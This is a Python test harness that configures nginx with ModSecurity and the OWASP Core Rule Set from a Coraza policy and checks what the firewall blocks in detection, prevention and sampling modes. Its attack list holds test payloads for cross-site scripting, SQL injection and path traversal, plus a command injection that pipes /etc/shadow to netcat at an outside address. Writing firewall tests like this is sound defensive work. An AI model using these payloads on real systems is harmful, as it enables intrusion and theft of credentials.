#!/usr/bin/env python3
"""Has nginx with ModSecurity and the OWASP Core Rule Set, as Debian packages them, do what an emitted EnvoyExtensionPolicy tells
Coraza, and sends requests through it: what must pass, and what must not. Debian's rules are of version 3, so what was renamed in
version 4 is named as there.

    waf.py POLICY STAGE      STAGE: detection, prevention or sample (of one per cent)

Whom a sample takes is drawn: of the request's id, in the rules. Here the request says what it drew, so that all hundred can be asked.
"""
import pathlib
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request

import yaml

MODULE = pathlib.Path("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
RULES = pathlib.Path("/usr/share/modsecurity-crs/rules")
RECOMMENDED = pathlib.Path("/etc/nginx/modsecurity.conf")
THERE = {"@recommended-conf": str(RECOMMENDED), "@crs-setup-conf": "/etc/modsecurity/crs/crs-setup.conf", "@owasp_crs": str(RULES),
         "blocking_paranoia_level": "paranoia_level", "detection_paranoia_level": "executing_paranoia_level"}
ATTACKS = ["/?q=" + urllib.parse.quote("<script>alert(1)</script>"), "/?id=" + urllib.parse.quote("1' OR '1'='1' -- "),
           "/?file=" + urllib.parse.quote("../../../../etc/passwd"), "/?c=" + urllib.parse.quote(";cat /etc/shadow|nc 10.0.0.1 1")]
HARMLESS = ["/", "/api/contacts?page=2&sort=name", "/search?q=union+station+hotel", "/healthzz"]


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def drawn(folder):
    """The rules, with the draw of a sample taken from the header X-Draw."""
    for rules in RULES.iterdir():
        text = rules.read_text()
        if rules.name.startswith("REQUEST-901"):
            start = text.index('SecRule UNIQUE_ID "@rx ^."')
            rule = text[start:text.index("\n\n", start)]
            said = rule.replace("UNIQUE_ID", "REQUEST_HEADERS:X-Draw").replace("t:sha1,t:hexEncode", "t:none")
            assert said.count("X-Draw") == 1 and said.count("t:none") == 1, rule
            text = text.replace(rule, said)
        pathlib.Path(folder, rules.name).write_text(text)
    return folder


def ask(port, path, body=None, draw=None):
    headers = {"User-Agent": "Mozilla/5.0", "Accept": "*/*", "Host": "shop.example"}
    if draw is not None:
        headers["X-Draw"] = f"{draw:02}"
    if body is not None:
        headers["Content-Type"] = "application/json"
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=body, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def judge(port, stage):
    attacks = [ask(port, a) for a in ATTACKS]
    if stage == "sample":
        # One in a hundred is looked at.
        refused = [draw for draw in range(100) if ask(port, ATTACKS[0], draw=draw) == 403]
        if refused != [0]:
            yield f"of a hundred attacks {len(refused)} are refused: {refused}"
        return
    due = 403 if stage == "prevention" else 200
    yield from (f"{path} gets {got}, not {due}" for path, got in zip(ATTACKS, attacks) if got != due)
    yield from (f"{path} gets {got}" for path in HARMLESS if (got := ask(port, path)) != 200)
    yield from (f"{path} is looked at: {got}" for path in ("/healthz" + ATTACKS[0], "/healthz/deep" + ATTACKS[0]) if (got := ask(port, path)) != 200)
    if (got := ask(port, "/api", b'{"name": "Jane", "note": "a day at sea"}')) != 200:
        yield f"a small body gets {got}"
    large = b'{"note": "' + b"a day at sea " * 2000 + b'"}'
    if stage == "prevention" and (got := ask(port, "/api", large)) not in (403, 413):
        yield f"a body of {len(large)} bytes gets {got}"


def main(policy, stage):
    if not (MODULE.exists() and RULES.exists() and RECOMMENDED.exists()):
        print("skipped: no nginx with ModSecurity and the Core Rule Set (scripts/install.sh test)")
        return 77
    spec = yaml.safe_load(pathlib.Path(policy).read_text())["spec"]
    directives = spec["wasm"][0]["config"]["directives_map"]["default"]
    with tempfile.TemporaryDirectory() as folder:
        port, upstream = free_port(), free_port()
        # ModSecurity 3 leaves memory to the server, Coraza does not.
        text = "\n".join(d for d in directives if "InMemoryLimit" not in d) + "\nSecAuditEngine Off\n"
        names = dict(THERE)
        if stage == "sample":
            own = pathlib.Path(folder, "drawn")
            own.mkdir()
            names["@owasp_crs"] = str(drawn(own))
        for name, there in names.items():
            text = text.replace(name, there)
        pathlib.Path(folder, "rules.conf").write_text(text)
        config = pathlib.Path(folder, "nginx.conf")
        config.write_text(f"""load_module {MODULE};
daemon off; worker_processes 1; pid {folder}/pid; error_log {folder}/error.log warn;
events {{}}
http {{
  access_log off; client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy; fastcgi_temp_path {folder}/f; uwsgi_temp_path {folder}/u; scgi_temp_path {folder}/s;
  client_max_body_size 10m; client_body_buffer_size 10m;
  server {{ listen 127.0.0.1:{upstream}; location / {{ return 200; }} }}
  server {{ listen 127.0.0.1:{port}; modsecurity on; modsecurity_rules_file {folder}/rules.conf;
    location / {{ proxy_pass http://127.0.0.1:{upstream}; }} }}
}}
""")
        nginx = subprocess.Popen(["nginx", "-p", folder, "-c", str(config)], stderr=subprocess.PIPE, text=True)
        try:
            for _ in range(100):
                if nginx.poll() is not None:
                    print(f"{policy}: nginx: {nginx.stderr.read()}")
                    return 1
                try:
                    socket.create_connection(("127.0.0.1", port), 0.1).close()
                    break
                except OSError:
                    time.sleep(0.1)
            wrong = list(judge(port, stage))
        finally:
            nginx.terminate()
            nginx.wait()
    print("\n".join([*wrong, f"the firewall, {stage}: {len(wrong)} findings"]))
    return 1 if wrong else 0


sys.exit(main(*sys.argv[1:]))
